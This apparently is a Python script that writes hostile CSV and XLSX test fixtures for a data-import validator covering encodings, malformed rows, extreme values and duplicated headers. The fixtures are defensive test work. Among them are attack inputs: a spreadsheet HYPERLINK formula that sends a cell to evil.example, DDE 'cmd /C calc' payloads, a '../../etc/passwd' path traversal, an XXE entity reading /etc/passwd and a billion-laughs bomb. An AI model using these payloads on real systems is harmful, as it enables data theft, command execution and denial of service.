#!/usr/bin/env python3
"""Writes the small hostile fixtures of this folder (run from it). The large or special ones
(a 10 MB line, an XLSX zip bomb, a symbolic link, a file that changes while read) are made by
HostileFilesTests at test time, so the repository does not carry them."""
import io, zipfile

H = "agency,period,indicator,value,unit,submitted_at,note\n"
GOOD = "HN,2026-10,EXPORTS,100.5,USD_M,2026-11-03,\n"

def w(name, data):
    with open(name, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))

def row(value="100.5", agency="HN", period="2026-10", indicator="EXPORTS", unit="USD_M",
        submitted="2026-11-03", note=""):
    return f"{agency},{period},{indicator},{value},{unit},{submitted},{note}\n"

# encodings
w("encoding-windows-1258.csv", (H + "LC,2026-10,EXPORTS,5,USD_M,2026-11-03,Lào Cai báo cáo\n").encode("cp1258"))
w("encoding-utf16le-with-bom.csv", b"\xff\xfe" + (H + GOOD).encode("utf-16-le"))
w("encoding-utf16be-with-bom.csv", b"\xfe\xff" + (H + GOOD).encode("utf-16-be"))
w("encoding-utf16le-without-bom.csv", (H + GOOD).encode("utf-16-le"))
w("encoding-utf8-with-bom.csv", b"\xef\xbb\xbf" + (H + row(agency="LC", note="Lào Cai")).encode())
w("encoding-utf8-without-bom.csv", H + row(agency="LC", note="Đắk Lắk gửi"))
# shapes
w("empty-file.csv", b"")
w("header-only.csv", H)
w("blank-lines-only-after-header.csv", H + "\n\n   \n")
w("missing-column-value.csv", "agency,period,indicator,unit,submitted_at,note\nHN,2026-10,EXPORTS,USD_M,2026-11-03,\n")
w("missing-column-submitted-at.csv", "agency,period,indicator,value,unit,note\nHN,2026-10,EXPORTS,5,USD_M,\n")
w("extra-columns-ignored.csv", "agency,period,indicator,value,unit,submitted_at,note,prepared_by\n"
  "HN,2026-10,EXPORTS,5,USD_M,2026-11-03,,Nguyễn Văn A\n")
w("row-with-fewer-fields.csv", H + "HN,2026-10,EXPORTS,5\n" + GOOD)
w("row-with-more-fields.csv", H + "HN,2026-10,EXPORTS,5,USD_M,2026-11-03,,extra\n" + GOOD)
w("unbalanced-quote.csv", H + GOOD.replace("100.5", "200") + 'HN,2026-09,EXPORTS,"5,USD_M,2026-11-03,\n' + GOOD)
w("text-after-closing-quote.csv", H + 'HN,2026-10,EXPORTS,"5"0,USD_M,2026-11-03,\n')
w("nul-bytes.csv", H + "HN,2026-10,EXPORTS,5\x00,USD_M,2026-11-03,\n")
w("binary-garbage.csv", bytes(range(256)) * 4)
w("carriage-returns-only.csv", (H + GOOD).replace("\n", "\r"))
# values
w("value-exponent-1e309.csv", H + row(value="1e309"))
w("value-nan.csv", H + row(value="NaN"))
w("value-infinity.csv", H + row(value="Infinity"))
w("value-minus-zero.csv", H + row(value="-0"))
w("value-decimal-comma-and-dot.csv", H + row(value='"1.506,14"'))
w("value-thousands-separator.csv", H + row(value='"1,506.14"'))
w("value-hexadecimal.csv", H + row(value="0x1F"))
w("value-empty.csv", H + row(value=""))
w("value-300-digits.csv", H + row(value="9" * 300))
# periods and dates
w("period-month-13.csv", H + row(period="2026-13"))
w("period-two-digit-year.csv", H + row(period="26-10"))
w("period-far-future.csv", H + row(period="9999-12"))
w("submitted-at-far-future.csv", H + row(submitted="9999-12-31T23:59:59"))
w("submitted-at-year-zero.csv", H + row(submitted="0000-01-01"))
w("submitted-at-february-30.csv", H + row(submitted="2026-02-30"))
# agency codes
w("agency-path-traversal.csv", H + row(agency="../../etc/passwd"))
w("agency-with-inner-space.csv", H + row(agency="H N"))
w("agency-with-control-characters.csv", H + row(agency="HN\x07\x1b[31m"))
w("agency-lower-case.csv", H + row(agency="hn"))
# notes
w("note-starting-with-equals.csv", H + row(note='"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'))
w("note-starting-with-plus.csv", H + row(note="+1+cmd|' /C calc'!A0"))
w("note-starting-with-minus.csv", H + row(note="-2+3"))
w("note-starting-with-at.csv", H + row(note="@SUM(1+1)"))
w("note-very-long.csv", H + row(note="Ghi chú " * 5000))
w("formula-in-rejected-row.csv", H + row(agency="=cmd|' /C calc'!A0"))

# XLSX
def xlsx(name, sheet_xml, extra=None, strings=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                   'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                   '<sheets><sheet name="Form" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        z.writestr("xl/styles.xml", '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                   '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>')
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        for k, v in (extra or {}).items():
            z.writestr(k, v)
    w(name, buf.getvalue())

def s(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'

def form(value_cell, prolog=""):
    return (prolog + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            f'<row r="1">{s("A1","Agency")}{s("B1","HN")}</row>'
            f'<row r="2">{s("A2","Period")}{s("B2","2026-10")}</row>'
            f'<row r="3">{s("A3","Submitted at")}{s("B3","2026-11-03")}</row>'
            f'<row r="5">{s("A5","Indicator")}{s("B5","Value")}{s("C5","Unit")}{s("D5","Note")}</row>'
            f'<row r="6">{s("A6","EXPORTS")}{value_cell}{s("C6","USD_M")}</row>'
            '</sheetData></worksheet>')

xlsx("xlsx-good-form.xlsx", form('<c r="B6"><v>100.5</v></c>'))
xlsx("xlsx-value-is-formula.xlsx", form('<c r="B6"><f>SUM(1,2)</f><v>3</v></c>'))
xlsx("xlsx-value-is-formula-without-result.xlsx", form('<c r="B6"><f>SUM(1,2)</f></c>'))
xlsx("xlsx-value-is-date.xlsx", form('<c r="B6" s="1"><v>46300</v></c>'))
xlsx("xlsx-value-is-boolean.xlsx", form('<c r="B6" t="b"><v>1</v></c>'))
xlsx("xlsx-value-is-error.xlsx", form('<c r="B6" t="e"><v>#DIV/0!</v></c>'))
xlsx("xlsx-doctype-external-entity.xlsx", form(s("B6", "&xxe;"),
     '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'))
xlsx("xlsx-billion-laughs.xlsx", form(s("B6", "&lol3;"),
     '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
     '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'))
xlsx("xlsx-no-header-row.xlsx", '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
     f'<row r="1">{s("A1","Agency")}{s("B1","HN")}</row></sheetData></worksheet>')
xlsx("xlsx-malformed-xml.xlsx", form('<c r="B6"><v>1</v></c>').replace("</sheetData>", "<row"))
good = io.BytesIO(open("xlsx-good-form.xlsx", "rb").read()).getvalue()
w("xlsx-truncated.xlsx", good[: len(good) // 2])
w("xlsx-that-is-a-csv.xlsx", H + GOOD)
w("xlsx-empty.xlsx", b"")

# issue 15: rows and cells a faulty generator numbers badly, and columns or labels given twice
def rows(*body):
    return ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            f'<row r="1">{s("A1","Agency")}{s("B1","HN")}</row>'
            f'<row r="2">{s("A2","Period")}{s("B2","2026-10")}</row>'
            f'<row r="3">{s("A3","Submitted at")}{s("B3","2026-11-03")}</row>'
            f'<row r="5">{s("A5","Indicator")}{s("B5","Value")}</row>'
            + "".join(body) + '</sheetData></worksheet>')

def data(r, indicator, value, ref=None):
    attr = f' r="{r}"' if r is not None else ""
    row = r if ref is None else ref
    return f'<row{attr}>{s(f"A{row}", indicator)}<c r="B{row}"><v>{value}</v></c></row>'

xlsx("xlsx-row-number-twice.xlsx", rows(data(6, "EXPORTS", 100.5), data(6, "IMPORTS", 7)))
xlsx("xlsx-row-number-negative.xlsx", rows(data(-5, "EXPORTS", 100.5, ref=6)))
xlsx("xlsx-row-number-zero.xlsx", rows(data(0, "EXPORTS", 100.5, ref=6)))
xlsx("xlsx-row-number-overflow.xlsx", rows(data(2147483647, "EXPORTS", 100.5, ref=6), data(None, "IMPORTS", 7, ref=7)))
xlsx("xlsx-rows-out-of-order.xlsx", rows(data(7, "EXPORTS", 100.5), data(6, "IMPORTS", 7)))
xlsx("xlsx-cell-twice.xlsx", rows(f'<row r="6">{s("A6","EXPORTS")}<c r="B6"><v>100.5</v></c><c r="B6"><v>999</v></c></row>'))
xlsx("xlsx-rows-without-numbers.xlsx", rows(data(None, "EXPORTS", 100.5, ref=6), data(None, "IMPORTS", 7, ref=7)))
xlsx("xlsx-header-value-twice.xlsx", rows().replace(f'{s("B5","Value")}', f'{s("B5","Value")}{s("C5","Value")}')
     .replace("</sheetData>", f'<row r="6">{s("A6","EXPORTS")}<c r="B6"><v>1</v></c><c r="C6"><v>999999</v></c></row></sheetData>'))
xlsx("xlsx-label-agency-twice.xlsx", '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
     f'<sheetData><row r="1">{s("A1","Agency")}{s("B1","HN")}</row><row r="2">{s("A2","Agency")}{s("B2","LC")}</row>'
     f'<row r="3">{s("A3","Period")}{s("B3","2026-10")}</row><row r="4">{s("A4","Submitted at")}{s("B4","2026-11-03")}</row>'
     f'<row r="5">{s("A5","Indicator")}{s("B5","Value")}</row>{data(6, "EXPORTS", 100.5)}</sheetData></worksheet>')
w("header-value-twice.csv", "agency,period,indicator,value,unit,submitted_at,note,value\n"
  "HN,2026-10,EXPORTS,1,USD_M,2026-11-03,,999999\n")
w("header-agency-twice-in-other-case.csv", "agency,AGENCY,period,indicator,value,unit,submitted_at,note\n"
  "HN,LC,2026-10,EXPORTS,1,USD_M,2026-11-03,\n")
w("header-unknown-column-twice.csv", "agency,period,indicator,value,unit,submitted_at,note,comment,comment\n"
  "HN,2026-10,EXPORTS,1,USD_M,2026-11-03,,a,b\n")
w("submitted-at-100-ns-apart.csv", H + row(value="5", submitted="2026-11-03T10:00:00.0000001+07:00")
  + row(value="6", submitted="2026-11-03T10:00:00.0000002+07:00"))
w("submitted-at-nanoseconds-same-microsecond.csv", H + row(value="5", submitted="2026-11-03T10:00:00.123456+07:00")
  + row(value="5", submitted="2026-11-03T10:00:00.1234569+07:00"))
